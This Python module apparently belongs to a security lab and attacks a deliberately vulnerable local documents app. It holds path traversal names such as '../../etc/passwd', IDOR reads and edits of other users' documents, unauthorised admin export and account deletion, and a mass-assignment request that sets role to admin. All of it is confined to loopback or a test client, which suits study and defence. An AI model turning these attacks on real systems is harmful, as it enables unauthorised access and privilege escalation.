"""Broken access control: requests an attacker sends to the documents app, and payloads.

The attacks talk to the app through a *sender*: a function ``send(as_user, method,
path, json_body) -> Reply``. ``in_process(app)`` sends with Flask's test client,
``over_http(base_url)`` sends real HTTP to a server on 127.0.0.1. Each attack returns an
``AttackResult`` whose ``succeeded`` says whether the damage happened.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from seclab.attacks import AttackResult
from seclab.server import http_request, require_loopback
from seclab.topics.access_control.targets import DOCUMENTS, PRIVATE_TEXT, USER_HEADER, USERS

__all__ = ["AttackResult", "Reply", "Sender", "in_process", "over_http"]

#: File names that climb out of ``uploads/`` in the tree ``make_upload_tree`` lays out.
TRAVERSAL_NAMES = [
    "../secret.txt",
    "../../../../../../../../etc/passwd",
    "/etc/passwd",
    "docs/../../secret.txt",
    "../uploads-old/old.txt",
    "link-out",
    "dir-out/other.txt",
    "",
    ".",
    "welcome.txt\x00.png",
]

#: Keys a client must not be able to set through an update endpoint.
FORBIDDEN_FIELDS = ["owner_id", "id", "role", "Title"]

#: Role values that are *not* "admin", although a sloppy check might treat them so.
NOT_ADMIN_ROLES = ["Admin", "administrator", "", None]


@dataclass(frozen=True)
class Reply:
    """An HTTP response as plain data."""

    status: int
    text: str

    def json(self) -> Any:
        """The body parsed as JSON (None if it is not JSON)."""
        try:
            return json.loads(self.text)
        except json.JSONDecodeError:
            return None


Sender = Callable[[str, str, str, Any], Reply]


def in_process(app: Any) -> Sender:
    """Send requests to a Flask ``app`` through its test client (no sockets)."""
    client = app.test_client()

    def send(as_user: str, method: str, path: str, json_body: Any = None) -> Reply:
        response = client.open(path, method=method, headers={USER_HEADER: as_user},
                               json=json_body if json_body is not None else None)
        return Reply(response.status_code, response.get_data(as_text=True))

    return send


def over_http(base_url: str) -> Sender:
    """Send real HTTP requests to ``base_url``, which must be a loopback URL."""
    require_loopback(base_url)

    def send(as_user: str, method: str, path: str, json_body: Any = None) -> Reply:
        reply = http_request(method, base_url + path, json_body=json_body, headers={USER_HEADER: as_user})
        return Reply(reply.status, reply.text)

    return send


def user_id(name: str) -> int:
    """The demo id of the user called ``name``."""
    return next(row[0] for row in USERS if row[1] == name)


def bodies_of(owner: str) -> list[str]:
    """The seeded document bodies that belong to ``owner``."""
    owner_id = user_id(owner)
    return [body for _id, owner_of, _title, body in DOCUMENTS if owner_of == owner_id]


def documents_of(owner: str) -> list[int]:
    """The seeded document ids that belong to ``owner``."""
    owner_id = user_id(owner)
    return [doc_id for doc_id, owner_of, _title, _body in DOCUMENTS if owner_of == owner_id]


def leaks(reply: Reply, owner: str) -> bool:
    """Does ``reply`` contain the body of any document of ``owner``?"""
    return reply.status == 200 and any(body in reply.text for body in bodies_of(owner))


# --- the attacks ----------------------------------------------------------------------

def read_foreign_documents(send: Sender, attacker: str = "alice", victim: str = "bob",
                           ids: range = range(1, 11)) -> AttackResult:
    """IDOR: as ``attacker``, request every document id and count the victim's that come back."""
    stolen = [doc_id for doc_id in ids if leaks(send(attacker, "GET", f"/documents/{doc_id}", None), victim)]
    evidence = (f"{attacker} read {victim}'s documents {stolen}" if stolen
                else f"none of {victim}'s documents came back")
    return AttackResult(f"GET /documents/{ids.start}..{ids.stop - 1} as {attacker}", bool(stolen), evidence)


def edit_foreign_document(send: Sender, doc_id: int, attacker: str = "alice",
                          new_title: str = "edited by someone else") -> AttackResult:
    """IDOR on write: change another user's title, then look at it as its owner."""
    reply = send(attacker, "PATCH", f"/documents/{doc_id}", {"title": new_title})
    owner = next(name for _id, name, _display, _role in USERS
                 if _id == next(row[1] for row in DOCUMENTS if row[0] == doc_id))
    seen = send(owner, "GET", f"/documents/{doc_id}", None).json() or {}
    changed = seen.get("title") == new_title
    evidence = (f"{owner} now sees the title {new_title!r}" if changed
                else f"refused with HTTP {reply.status}; {owner}'s document is unchanged")
    return AttackResult(f"PATCH /documents/{doc_id} as {attacker}", changed, evidence)


def export_everything(send: Sender, as_user: str = "alice") -> AttackResult:
    """Missing role check: call the admin-only export as an ordinary user."""
    reply = send(as_user, "GET", "/admin/export", None)
    documents = reply.json() if reply.status == 200 else None
    got_all = isinstance(documents, list) and len(documents) == len(DOCUMENTS)
    evidence = f"got all {len(DOCUMENTS)} documents" if got_all else f"refused with HTTP {reply.status}"
    return AttackResult(f"GET /admin/export as {as_user}", got_all, evidence)


def delete_user(send: Sender, victim: str = "bob", as_user: str = "alice") -> AttackResult:
    """Missing role check: delete another account, then see whether the victim can still log in."""
    reply = send(as_user, "DELETE", f"/admin/users/{user_id(victim)}", None)
    gone = send(victim, "GET", "/me", None).status == 401
    evidence = f"{victim}'s account is gone" if gone else f"refused with HTTP {reply.status}; {victim} is still there"
    return AttackResult(f"DELETE /admin/users/{user_id(victim)} as {as_user}", gone, evidence)


def become_admin(send: Sender, as_user: str = "alice") -> AttackResult:
    """Mass assignment: send ``role`` along with a harmless profile change."""
    reply = send(as_user, "PATCH", "/me", {"display_name": "Alice", "role": "admin"})
    role = (send(as_user, "GET", "/me", None).json() or {}).get("role")
    evidence = f"{as_user}'s role is now {role!r}" if role == "admin" else f"refused with HTTP {reply.status}"
    return AttackResult(f"PATCH /me role=admin as {as_user}", role == "admin", evidence)


def download(send: Sender, name: str, private_text: str = PRIVATE_TEXT, as_user: str = "alice") -> AttackResult:
    """Path traversal: ask the download endpoint for ``name``; success = the private file came back."""
    reply = send(as_user, "GET", "/download?" + urllib.parse.urlencode({"name": name}), None)
    got = reply.status == 200 and private_text in reply.text
    evidence = "read the secret file" if got else f"HTTP {reply.status}: {reply.text.strip()[:60]}"
    return AttackResult(name, got, evidence)


# --- a recorded request (the exercise's exploit challenge) ------------------------------

RECORDED_METHODS = ("GET", "POST", "PATCH", "PUT", "DELETE")


def check_recorded_request(recorded: Any) -> dict[str, Any]:
    """Validate a recorded request ``{"as_user", "method", "path"[, "json"]}``; ValueError if malformed."""
    if not isinstance(recorded, dict):
        raise ValueError("record a dict such as {'as_user': 'alice', 'method': 'GET', 'path': '/documents/1'}")
    unknown = set(recorded) - {"as_user", "method", "path", "json"}
    if unknown:
        raise ValueError(f"unexpected keys {sorted(unknown)}")
    as_user, method, path = recorded.get("as_user"), recorded.get("method", "GET"), recorded.get("path")
    if not isinstance(as_user, str) or not isinstance(method, str) or method.upper() not in RECORDED_METHODS:
        raise ValueError("as_user must be a user name and method one of " + ", ".join(RECORDED_METHODS))
    if not isinstance(path, str) or not path.startswith("/") or len(path) > 2000:
        raise ValueError("path must start with '/'")
    return {"as_user": as_user, "method": method.upper(), "path": path, "json": recorded.get("json")}


def replay(send: Sender, recorded: Any) -> Reply:
    """Send a recorded request (validated by ``check_recorded_request``)."""
    request = check_recorded_request(recorded)
    return send(request["as_user"], request["method"], request["path"], request["json"])
